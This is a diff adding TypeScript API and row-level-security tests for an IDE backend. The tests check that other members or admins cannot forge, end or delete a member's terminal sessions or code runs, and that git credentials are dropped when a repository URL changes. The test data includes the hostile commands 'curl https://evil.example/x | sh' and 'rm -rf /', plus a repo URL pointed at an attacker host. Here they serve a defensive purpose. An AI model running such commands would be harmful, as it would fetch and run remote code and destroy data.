@@ -153,6 +153,74 @@ describe(`IDE project resources (${TARGET})`, () => {
     await asUser(member, (trx) => trx.insertInto('terminal_sessions').values({ id: 'trm_own', project_id: projectId, user_id: member.user.id, command: 'x' }).execute());
   });
 
+  it("another member's terminal session or code execution is its author's: a writer cannot rewrite, end or delete it (403, unchanged); an owner or admin may only end or delete it; RLS holds the same", async () => {
+    const [other, admin] = [await signUp(app), await signUp(app)];
+    await owner.api.post(`/v1/workspaces/${workspaceId}/members`, { user_id: other.user.id, role: 'member' });
+    await owner.api.post(`/v1/workspaces/${workspaceId}/members`, { user_id: admin.user.id, role: 'admin' });
+    const base = `/v1/projects/${projectId}`;
+    const terminal = async () => (await member.api.post(`${base}/terminal-sessions`, { shell: 'bash', command: 'npm test', output: 'ok' })).body.id as string;
+    const run = async () => (await member.api.post(`${base}/code-executions`, { language: 'python', source_code: 'print(1)' })).body.id as string;
+    const t = await terminal();
+    const e = await run();
+    // The reviewer's reproduction (R5): another writer forges the command and output, and ends it.
+    const refusals = [
+      await other.api.patch(`${base}/terminal-sessions/${t}`, { command: 'curl https://evil.example/x | sh', output: 'pwned', status: 'exited', exit_code: 0 }),
+      await other.api.patch(`${base}/terminal-sessions/${t}`, { status: 'killed' }),
+      await other.api.del(`${base}/terminal-sessions/${t}`),
+      await other.api.patch(`${base}/code-executions/${e}`, { status: 'running' }),
+      await other.api.patch(`${base}/code-executions/${e}`, { status: 'canceled' }),
+      await other.api.del(`${base}/code-executions/${e}`),
+      // An admin moderates but never writes a runner's fields.
+      await admin.api.patch(`${base}/terminal-sessions/${t}`, { status: 'killed', output: 'forged' }),
+      await admin.api.patch(`${base}/terminal-sessions/${t}`, { command: 'rm -rf /' }),
+      await admin.api.patch(`${base}/code-executions/${e}`, { status: 'running' }),
+      await admin.api.patch(`${base}/code-executions/${e}`, { status: 'canceled', stdout: 'forged' }),
+    ];
+    for (const res of refusals) {
+      expect(res.status, JSON.stringify(res.body)).toBe(403);
+      expect(res.body.error.code).toBe('forbidden');
+    }
+    expect((await member.api.get(`${base}/terminal-sessions/${t}`)).body).toMatchObject({ command: 'npm test', output: 'ok', status: 'running', user_id: member.user.id });
+    expect((await member.api.get(`${base}/code-executions/${e}`)).body).toMatchObject({ status: 'queued', stdout: null });
+    // The author runs their own; the service reports for any runner.
+    expect((await member.api.patch(`${base}/terminal-sessions/${t}`, { output: 'ok\nmore' })).status).toBe(200);
+    expect((await member.api.patch(`${base}/code-executions/${e}`, { status: 'running' })).status).toBe(200);
+    expect((await client(app.server, app.serviceKey).patch(`${base}/code-executions/${e}`, { status: 'completed', stdout: '1', exit_code: 0 })).body).toMatchObject({ status: 'completed', stdout: '1' });
+    // An admin (and the workspace owner) may end another member's session or cancel a run, and delete them.
+    const ended = await admin.api.patch(`${base}/terminal-sessions/${t}`, { status: 'killed' });
+    expect(ended.body).toMatchObject({ status: 'killed', output: 'ok\nmore', exit_code: null, user_id: member.user.id });
+    const e2 = await run();
+    expect((await owner.api.patch(`${base}/code-executions/${e2}`, { status: 'canceled' })).body).toMatchObject({ status: 'canceled', stdout: null });
+    expect((await owner.api.del(`${base}/terminal-sessions/${t}`)).status).toBe(200);
+    expect((await admin.api.del(`${base}/code-executions/${e2}`)).status).toBe(200);
+
+    // Row-level security on its own, for the same attempts straight at the tables.
+    const t3 = await terminal();
+    const e3 = await run();
+    const forgeries = [
+      () => asUser(other, (trx) => trx.updateTable('terminal_sessions').set({ output: 'pwned' }).where('id', '=', t3).executeTakeFirst()),
+      () => asUser(other, (trx) => trx.updateTable('code_executions').set({ stdout: 'pwned', status: 'running' }).where('id', '=', e3).executeTakeFirst()),
+      () => asUser(other, (trx) => trx.deleteFrom('terminal_sessions').where('id', '=', t3).executeTakeFirst()),
+      () => asUser(other, (trx) => trx.deleteFrom('code_executions').where('id', '=', e3).executeTakeFirst()),
+    ];
+    for (const attempt of forgeries) {
+      const res = (await attempt()) as { numUpdatedRows?: bigint; numDeletedRows?: bigint };
+      expect(res.numUpdatedRows ?? res.numDeletedRows).toBe(0n);
+    }
+    const adminForges = [
+      () => asUser(admin, (trx) => trx.updateTable('terminal_sessions').set({ output: 'pwned' }).where('id', '=', t3).execute()),
+      () => asUser(admin, (trx) => trx.updateTable('terminal_sessions').set({ status: 'killed', ended_at: new Date(), command: 'forged' }).where('id', '=', t3).execute()),
+      () => asUser(admin, (trx) => trx.updateTable('code_executions').set({ status: 'canceled', finished_at: new Date(), exit_code: 0 }).where('id', '=', e3).execute()),
+    ];
+    for (const attempt of adminForges) expect(await failure(attempt)).toBe('42501');
+    const killed = await asUser(admin, (trx) => trx.updateTable('terminal_sessions').set({ status: 'killed', ended_at: new Date() }).where('id', '=', t3).executeTakeFirst());
+    expect(killed.numUpdatedRows).toBe(1n);
+    const gone = await asUser(admin, (trx) => trx.deleteFrom('code_executions').where('id', '=', e3).executeTakeFirst());
+    expect(gone.numDeletedRows).toBe(1n);
+    const row = await app.database.db.selectFrom('terminal_sessions').select(['command', 'output', 'status']).where('id', '=', t3).executeTakeFirstOrThrow();
+    expect(row).toEqual({ command: 'npm test', output: 'ok', status: 'killed' });
+  });
+
   it('git credentials are sealed: never in any answer, not in the clear in the database, not even selectable by end users', async () => {
     const other = (await owner.api.post('/v1/projects', { name: 'git' })).body.id;
     const secret = 'ghp_SuperSecretRepositoryToken1234567890';
@@ -192,6 +260,25 @@ describe(`IDE project resources (${TARGET})`, () => {
     const second = await owner.api.post(`/v1/projects/${other}/git-repositories`, { provider: 'gitlab', repo_url: 'https://gitlab.com/acme/app' });
     expect(second.status).toBe(409);
     expect(second.body.error.code).toBe('conflict');
+  });
+
+  it('git credentials never follow the repository elsewhere: a new repo_url drops them unless new ones come in the same request', async () => {
+    const p = (await owner.api.post('/v1/projects', { name: 'git-moves', workspace_id: workspaceId })).body.id;
+    const made = await owner.api.post(`/v1/projects/${p}/git-repositories`, { provider: 'github', repo_url: 'https://github.com/acme/app', credentials: 'ghp_token_for_acme_app_0001' });
+    const path = `/v1/projects/${p}/git-repositories/${made.body.id}`;
+    const open = () => app.services.ide.gitRepositories.credentials(app.database.db, made.body.id);
+    // The same URL again (and other fields) keeps them.
+    expect((await owner.api.patch(path, { repo_url: 'https://github.com/acme/app', default_branch: 'trunk' })).body.has_credentials).toBe(true);
+    expect(await open()).toBe('ghp_token_for_acme_app_0001');
+    // The reviewer's case (R8): the URL pointed at a host the writer controls; the next sync would send the token there.
+    const moved = await member.api.patch(path, { repo_url: 'https://evil.example/acme/app.git' });
+    expect(moved.status).toBe(200);
+    expect(moved.body).toMatchObject({ has_credentials: false, masked_credentials: null });
+    expect(await open()).toBeNull();
+    // New credentials with the new URL, in one request, are kept.
+    const both = await owner.api.patch(path, { repo_url: 'https://gitlab.com/acme/app', credentials: 'glpat_for_gitlab_0002' });
+    expect(both.body).toMatchObject({ has_credentials: true, masked_credentials: '••••••••0002' });
+    expect(await open()).toBe('glpat_for_gitlab_0002');
   });
 
   it('lists page by cursor, newest first, and filter by status, user and creation time', async () => {
